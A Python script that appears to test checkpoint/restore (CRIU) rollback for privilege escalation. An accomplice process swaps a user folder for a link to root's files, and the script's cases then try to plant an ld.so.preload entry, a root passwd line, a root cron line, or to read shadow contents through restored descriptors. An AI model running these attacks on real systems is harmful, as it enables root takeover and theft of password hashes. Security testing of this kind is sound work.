"""Hostile job: it prepares a case, waits until it has been killed and restored, and prints what it has gained.

    hostile_job.py CASE HOME VICTIM

VICTIM is a folder of root's, with files that this user may not read. The accomplice, a process of the same user outside
of the job, makes HOME/turned when it has put a link to VICTIM, or root's files, in the place of HOME/d.
"""

import mmap
import os
import socket
import stat
import sys
import time

case, home, victim = sys.argv[1:4]
inner = f"{home}/d"


def say(*words):
    print(*words, flush=True)


def ready(change=lambda: None):
    """Returns in the restored process, after the accomplice has acted. `change` is called after the snapshot."""
    say("READY")
    while not os.path.exists(f"{home}/snapshotted"):
        time.sleep(0.01)
    try:
        change()
    except OSError as error:
        say("refused", error)
    say("CHANGED")
    while not os.path.exists(f"{home}/turned"):
        time.sleep(0.01)
    # The first process is killed in this sleep; the restored one is told to continue.
    while not os.path.exists(f"{home}/restored"):
        time.sleep(0.01)


def fill(name, mode):
    """Writes a file that looks like one of root."""
    path = f"{inner}/{name}"
    with open(path, "w") as file:
        file.write("x" * os.stat(f"{victim}/{name}").st_size)
    os.chmod(path, mode)
    return path


def read(file):
    file.seek(0)
    say("GOT", file.read())


os.makedirs(inner, exist_ok=True)
if case == "recreate":
    file = open(f"{inner}/ld.so.preload", "w+")
    file.write("/home/nobody/evil.so\n")
    file.flush()
    ready()
    file.write("# more\n")
    file.flush()
elif case == "closed":
    # Not open at the snapshot, so the rollback restores it.
    with open(f"{inner}/passwd", "w") as file:
        file.write("evil::0:0::/:/bin/sh\n")
    os.mkdir(f"{inner}/folder")
    os.chmod(f"{inner}/folder", 0o777)
    ready()
elif case == "read":
    file = open(fill("shadow", 0o640), "rb", buffering=0)
    ready()
    read(file)
elif case == "mapped":
    with open(fill("shadow", 0o640), "rb") as file:
        mapping = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)
    ready()
    say("GOT", mapping[:])
elif case in ("socket", "service", "client"):
    name = {"socket": "passwd", "service": "service.sock", "client": "service.sock"}[case]
    kind = socket.SOCK_DGRAM if case == "client" else socket.SOCK_STREAM
    server = socket.socket(socket.AF_UNIX, kind)
    server.bind(f"{inner}/{name}")
    os.chmod(f"{inner}/{name}", 0o606)
    if case == "client":
        client = socket.socket(socket.AF_UNIX, kind)
        client.connect(f"{inner}/{name}")
    else:
        server.listen(1)
    ready()
    if case == "client":
        client.send(b"for root's service")
elif case == "write":
    file = open(fill("passwd", 0o644), "r+b", buffering=0)
    ready()
    file.seek(0)
    file.write(b"evil::0:0::/:/bin/sh\n")
elif case in ("dirfd", "cwd"):
    os.mkdir(f"{inner}/private", 0o700)
    if case == "cwd":
        os.chdir(f"{inner}/private")
    else:
        folder = os.open(f"{inner}/private", os.O_RDONLY)
    ready()
    say("GOT", os.listdir("." if case == "cwd" else folder))
elif case == "fifo":
    os.mkfifo(f"{inner}/pipe", 0o600)
    pipe = os.open(f"{inner}/pipe", os.O_RDWR)
    ready()
elif case == "ghost":
    # CRIU creates a file without a name again, for a moment.
    file = open(f"{inner}/gone", "w+")
    file.write("/home/nobody/evil.so\n")
    file.flush()
    os.unlink(f"{inner}/gone")
    ready()
    file.write("more")
    file.flush()
elif case == "renamed":
    # CRIU links a file whose name was removed into its folder, at the dump and at the restore.
    file = open(f"{inner}/first", "w+")
    file.write("* * * * * root evil\n")
    file.flush()
    os.link(f"{inner}/first", f"{inner}/second")
    os.unlink(f"{inner}/first")
    ready()
    read(file)
elif case == "content":
    file = open(f"{inner}/shadow", "w+")
    file.write("y" * os.stat(f"{victim}/shadow").st_size)
    file.flush()
    with open(f"{inner}/passwd", "w") as closed:
        closed.write("z")
    ready()
    read(file)
    for name in os.listdir(inner):
        try:
            if stat.S_ISREG(os.lstat(f"{inner}/{name}").st_mode):
                say("GOT", open(f"{inner}/{name}").read())
        except OSError as error:
            say("refused", error)
elif case == "owned":
    # A folder of root within this user's own, which the user may rename.
    file = open(f"{inner}/shadow", "w+")
    file.write("y" * os.stat(f"{victim}/shadow").st_size)
    file.flush()
    with open(f"{inner}/passwd", "w") as closed:
        closed.write("evil::0:0::/:/bin/sh\n")
    ready()
    read(file)
elif case in ("parents", "created", "swapped"):
    # Nothing is open, so only the list of the job's files leads there.
    os.chmod(inner, 0o777)
    if case == "created":
        ready(lambda: open(f"{inner}/secret", "w").close())
    else:
        name = f"{inner}/secret" if case == "swapped" else f"{inner}/file"
        with open(name, "w") as file:
            file.write("mine")
        ready(lambda: os.remove(name))
    for folder in (inner, f"{home}/other") if os.getuid() else ():
        try:
            say("GOT", open(f"{folder}/secret").read())
        except OSError as error:
            say("refused", error)
say("DONE")
